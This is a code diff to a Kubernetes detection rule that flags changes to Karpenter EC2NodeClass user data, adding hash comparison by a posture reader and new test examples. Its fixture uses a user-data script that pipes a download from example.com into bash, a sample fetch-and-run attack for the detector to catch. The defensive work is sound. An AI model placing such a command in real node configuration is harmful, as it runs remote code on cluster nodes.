@@ -1,11 +1,20 @@
 import { kubernetes } from '../../core/detection.ts';
 import { audit, users } from '../../core/kubernetes/example.ts';
+import { hashedUserData } from '../../core/kubernetes/kept.ts';
+import type { Reading } from '../../core/kubernetes/reading.ts';
 import { byObject } from '../../core/kubernetes/said.ts';
 import { compare, confirm, lookAround, preserveNode, stopProvisioning } from '../../core/kubernetes/steps.ts';
 
 const target = 'ec2nodeclasses.karpenter.k8s.aws';
 const script = '#!/bin/bash\ncurl -s https://example.com/a | bash\n';
 const patch = { objectRef: { name: 'default' }, cluster: 'fleet', requestObject: { spec: { userData: script } } };
+
+const hashes = { path: 'spec.userData', before: hashedUserData('#!/bin/bash\n'), after: hashedUserData(script) };
+const read = (changes: Reading['changes']): Reading => ({
+  at: '2026-09-01T10:00:04.000Z',
+  object: { kind: 'EC2NodeClass', spec: { userData: hashedUserData(script) } },
+  ...(changes === undefined ? {} : { since: '2026-08-31T08:00:00.000Z', changes }),
+});
 
 export const detection = kubernetes({
   id: 'kubernetes/nodeclass-user-data-changed',
@@ -35,8 +44,8 @@ export const detection = kubernetes({
     lookAround,
   ],
   blind: [
-    'EKS logs no bodies of EC2NodeClasses: there kubernetes/provisioning-changed-by-unexpected says who wrote it, and the user data stands in CloudTrail’s CreateLaunchTemplate, whose value AWS withholds.',
-    'An update sends the whole object and does not say what it changes: it is taken for a change of user data, at medium.',
+    'EKS logs no bodies of EC2NodeClasses: with `reader: true` the posture reader reads the object some seconds later and compares hashes of its user data. Without it kubernetes/provisioning-changed-by-unexpected says who wrote it, and the user data stands in CloudTrail’s CreateLaunchTemplate, whose value AWS withholds.',
+    'An update sends the whole object and does not say what it changes: it is taken for a change of user data, at medium. So is any write to a class with user data that the posture reader reads for the first time.',
   ],
   examples: {
     matches: [
@@ -52,6 +61,14 @@ export const detection = kubernetes({
         event: audit('patch', target, { ...patch, user: users.karpenter }),
         settings: { controllers: [] },
       },
+      {
+        name: 'as EKS logs it, without a body, and then read with other user data than before',
+        event: audit('patch', target, { objectRef: { name: 'default' }, reading: read([hashes]) }),
+      },
+      {
+        name: 'read for the first time, so that it may have been changed',
+        event: audit('patch', target, { objectRef: { name: 'default' }, reading: read(undefined) }),
+      },
     ],
     misses: [
       {
@@ -59,6 +76,13 @@ export const detection = kubernetes({
         event: audit('patch', target, { ...patch, requestObject: { spec: { tags: { team: 'a' } } } }),
       },
       { name: 'as EKS logs it, without a body', event: audit('patch', target, { objectRef: { name: 'default' } }) },
+      {
+        name: 'read, and only its tags are other than before',
+        event: audit('patch', target, {
+          objectRef: { name: 'default' },
+          reading: read([{ path: 'spec.tags.team', before: 'a', after: 'b' }]),
+        }),
+      },
       { name: 'Karpenter', event: audit('update', target, { ...patch, cluster: 'prod', user: users.karpenter }) },
       { name: 'the API server refuses it', event: audit('patch', target, { ...patch, responseStatus: { code: 422 } }) },
     ],
